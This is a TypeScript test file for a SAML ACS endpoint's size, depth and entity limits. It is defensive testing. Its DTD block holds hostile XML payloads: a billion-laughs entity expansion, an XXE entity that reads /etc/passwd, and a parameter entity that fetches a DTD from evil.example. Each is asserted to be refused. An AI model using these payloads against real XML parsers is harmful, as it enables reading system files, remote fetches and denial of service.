/**
 * The ACS's size, depth and entity limits: refused with its status (the wire stays generic, so the
 * logged reason is checked) and read right at the limit; a refusal reserves no assertion id.
 *
 * Engine-level byte and depth boundaries: test/saml/response.security.test.ts ("too-large").
 */
import { SELF } from 'cloudflare:test'
import { describe, expect, it } from 'vitest'
import { MAX_SAML_RESPONSE_BYTES, MAX_XML_DEPTH } from '../../src/saml/limits'
import { chunkedBody, ORIGIN, send } from '../helpers/http'
import { activeConnection } from '../helpers/sso'
import { assertionIdsOf } from '../helpers/store'
import { toBase64 } from '../helpers/test-idp'
import { captureLogs, expectBrowserError } from '../helpers/wire'

const logs = captureLogs()
const MAX_BASE64_CHARS = Math.ceil(MAX_SAML_RESPONSE_BYTES / 3) * 4
const ACS_BODY_LIMIT = 2 * MAX_SAML_RESPONSE_BYTES

/** The reason the engine logged for the last refused browser request. */
const loggedReason = () =>
  logs
    .take()
    .filter((l) => l.event === 'refusal')
    .map((l) => (l.reason ? JSON.parse(String(l.reason)).reason : l.code))
    .pop()

describe('form body size', () => {
  it(`reads a form body of exactly ${ACS_BODY_LIMIT} bytes, and answers 413 one byte over, with or without Content-Length`, async () => {
    const { connection } = await activeConnection({ allow_idp_initiated: true })
    const post = (body: string | ReadableStream<Uint8Array>, accept?: string) =>
      send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', ...(accept ? { accept } : {}) }, body: body as string })
    const prefix = 'SAMLResponse='
    logs.take()
    const atLimit = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT - prefix.length))
    expectBrowserError(atLimit, 'html')
    expect([atLimit.status, loggedReason()]).toEqual([400, 'too_large']) // read, then refused by the SAMLResponse cap
    const over = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT - prefix.length + 1))
    expectBrowserError(over, 'html')
    expect([over.status, loggedReason()]).toEqual([413, 'body_too_large'])
    const overJson = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT), 'application/json')
    expectBrowserError(overJson, 'json')
    expect([overJson.status, overJson.body.error]).toEqual([413, 'invalid_request'])
    const chunked = await SELF.fetch(`${ORIGIN}/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: chunkedBody(prefix, 9) })
    expect(chunked.status).toBe(413)
    await chunked.text()
  })
})

describe('SAMLResponse size', () => {
  it(`reads a SAMLResponse of exactly ${MAX_SAML_RESPONSE_BYTES} bytes, and refuses one byte or base64 character more as too_large`, async () => {
    const { connection } = await activeConnection({ allow_idp_initiated: true })
    const post = (value: string) => send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
    logs.take()
    const atLimit = await post(toBase64('x'.repeat(MAX_SAML_RESPONSE_BYTES)))
    expect([atLimit.status, atLimit.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'not_xml']) // decoded and read: just not XML
    const overByOne = toBase64('x'.repeat(MAX_SAML_RESPONSE_BYTES + 1))
    expect(overByOne.length).toBe(MAX_BASE64_CHARS) // as many characters as the cap, one byte too many
    // Line-wrapped base64 is measured without its line breaks.
    const wrapped = 'A'.repeat(MAX_BASE64_CHARS + 4).replace(/(.{76})/g, '$1\r\n')
    for (const value of [overByOne, 'A'.repeat(MAX_BASE64_CHARS + 1), wrapped]) {
      const a = await post(value)
      expectBrowserError(a, 'html')
      expect([a.status, a.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'too_large'])
    }
  })
})

describe(`XML depth (${MAX_XML_DEPTH} nested elements)`, () => {
  it('refuses a SAMLResponse nested past the limit as too_deep, and reserves nothing', async () => {
    const { connection } = await activeConnection({ allow_idp_initiated: true })
    // The root counts as one level; 30,000 levels still fit under the size cap.
    for (const depth of [MAX_XML_DEPTH, 30_000]) {
      const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</samlp:Response>`
      const value = toBase64(xml)
      logs.take()
      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
      expectBrowserError(a, 'html')
      // The parser's depth check is what refused it, not a later step that walked the whole tree.
      expect([a.status, loggedReason()], `depth ${depth}`).toEqual([400, 'too_deep'])
    }
    expect(await assertionIdsOf(connection.id)).toEqual([])
  })
})

describe('DTDs and entities', () => {
  const lolz = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`

  it('refuses a SAMLResponse with entity expansion, an external entity or a parameter entity as dtd_forbidden, and reserves nothing', async () => {
    const { connection } = await activeConnection({ allow_idp_initiated: true })
    for (const doctype of [lolz, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>']) {
      const xml = `<?xml version="1.0"?>${doctype}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">&lol9;&xxe;</samlp:Response>`
      logs.take()
      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }, body: new URLSearchParams({ SAMLResponse: toBase64(xml) }).toString() })
      expectBrowserError(a, 'json')
      // Refused for the DOCTYPE itself, before any entity is expanded or fetched.
      expect([a.status, a.body.error, loggedReason()]).toEqual([400, 'invalid_saml_response', 'dtd_forbidden'])
    }
    expect(await assertionIdsOf(connection.id)).toEqual([])
  })
})

describe('RelayState', () => {
  it('bounds a RelayState far over the KV key limit (512 bytes) instead of failing on it', async () => {
    const { connection } = await activeConnection({ allow_idp_initiated: true })
    // Sized to stay under the ACS body cap once form-encoded (an emoji is 12 bytes there).
    for (const relay of ['r'.repeat(100_000), '😀'.repeat(20_000), '\u0800'.repeat(20_000)]) {
      const res = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: 'PHg+', RelayState: relay }).toString() })
      expectBrowserError(res, 'html')
      expect(res.status).toBe(400)
    }
  })
})
